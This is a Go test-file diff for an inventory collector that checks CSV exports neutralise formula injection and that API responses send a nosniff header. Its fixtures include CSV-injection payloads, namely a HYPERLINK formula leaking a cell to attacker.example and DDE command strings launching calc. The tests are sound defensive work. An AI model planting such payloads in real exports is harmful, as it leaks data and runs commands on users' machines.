@@ -4,6 +4,8 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"io"
+	"net/http"
 	"os"
 	"path/filepath"
 	"slices"
@@ -13,6 +15,7 @@ import (
 	"github.com/onus-project/onus/collector/cli"
 	"github.com/onus-project/onus/internal/model"
 	"github.com/onus-project/onus/internal/owners"
+	"github.com/onus-project/onus/internal/protocol"
 )
 
 // fleet starts a collector fed with the debian12, rocky9 and arch golden inventories (the
@@ -254,4 +257,111 @@ func TestExampleOwners(t *testing.T) {
 		}
 	}
 	t.Logf("coverage: %+v", cov.Coverage)
+}
+
+// TestExportNeutralisesFormulas feeds host facts and package fields that a spreadsheet would
+// run as formulas through a real collector: the CSV export must give each of them a leading
+// single quote (OWASP's advice on CSV injection), the JSON export must keep them as they are.
+func TestExportNeutralisesFormulas(t *testing.T) {
+	const (
+		hyperlink = `=HYPERLINK("http://attacker.example/?"&A1,"Click for the report")`
+		cmd       = `+cmd|' /C calc'!A0`
+		at        = `@SUM(1+1)*cmd|' /C calc'!A0`
+		minus     = `-2+3+cmd|' /C calc'!A0`
+	)
+	c, invs := fleet(t, func(invs []*model.Inventory) {
+		invs[0].Host.Hostname, invs[0].Host.FQDN, invs[0].Host.OS.PrettyName = hyperlink, at, "\tOS"
+		invs[0].Software = append(invs[0].Software, model.Package{Source: "deb", Name: minus, Version: "1.0",
+			Vendor: "\t=1+1", Maintainer: cmd})
+	})
+	deb := invs[0].Host.ID
+
+	code, b := do(t, "GET", c.url+"/api/v1/export?kind=hosts&format=csv", "", "", nil)
+	if code != 200 {
+		t.Fatalf("hosts export: %d %s", code, b)
+	}
+	_, rows := readCSV(t, b)
+	if got, want := rows[deb][1:4], []string{"'" + hyperlink, "'" + at, "'\tOS"}; !slices.Equal(got, want) {
+		t.Errorf("host cells %q, want %q", got, want)
+	}
+	out := filepath.Join(t.TempDir(), "software.csv")
+	runCLI(t, c, 0, "export", "--kind", "software", "--format", "csv", "-o", out)
+	b, err := os.ReadFile(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, rows = readCSV(t, b)
+	r := rows["deb:"+minus]
+	if r == nil {
+		t.Fatalf("no row for the title deb:%s in\n%s", minus, b)
+	}
+	if got, want := r[2:5], []string{"'" + minus, "'\t=1+1", "'" + cmd}; !slices.Equal(got, want) {
+		t.Errorf("software cells %q, want %q", got, want)
+	}
+	// No cell of either export starts a formula.
+	for _, kind := range []string{"hosts", "software"} {
+		_, b := do(t, "GET", c.url+"/api/v1/export?kind="+kind+"&format=csv", "", "", nil)
+		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, rec := range recs {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+					t.Errorf("%s export: cell %q starts a formula", kind, cell)
+				}
+			}
+		}
+	}
+	// JSON is data, not a spreadsheet: the values stay exact.
+	var hosts []struct {
+		HostID, Hostname, FQDN string
+	}
+	if err := json.Unmarshal([]byte(runCLI(t, c, 0, "export", "--kind", "hosts", "--format", "json")), &hosts); err != nil {
+		t.Fatal(err)
+	}
+	for _, h := range hosts {
+		if h.HostID == deb && (h.Hostname != hyperlink || h.FQDN != at) {
+			t.Errorf("JSON export changed the host's facts: %+v", h)
+		}
+	}
+}
+
+// TestNosniff checks that every kind of API answer, success or refusal, JSON, CSV or text,
+// tells browsers not to guess its type.
+func TestNosniff(t *testing.T) {
+	c, _ := fleet(t, nil)
+	for _, tc := range []struct {
+		method, path, token string
+		want                int
+	}{
+		{"GET", "/api/v1/hosts", admin, 200},
+		{"GET", "/api/v1/export?kind=software&format=csv", admin, 200},
+		{"GET", "/api/v1/export?kind=hosts&format=xml", admin, 400},
+		{"GET", "/api/v1/hosts", "", 401},
+		{"GET", "/api/v1/nothing", admin, 404},
+		{"POST", protocol.PathReport, "wrong-credential", 401},
+		{"POST", protocol.PathEnroll, "", 400},
+		{"GET", "/healthz", "", 200},
+		{"GET", "/readyz", "", 200},
+		{"GET", "/metrics", "", 200},
+	} {
+		req, err := http.NewRequest(tc.method, c.url+tc.path, strings.NewReader("{"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if tc.token != "" {
+			req.Header.Set("Authorization", "Bearer "+tc.token)
+		}
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != tc.want || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
+			t.Errorf("%s %s: %d, X-Content-Type-Options %q; want %d, nosniff", tc.method, tc.path, resp.StatusCode,
+				resp.Header.Get("X-Content-Type-Options"), tc.want)
+		}
+	}
 }
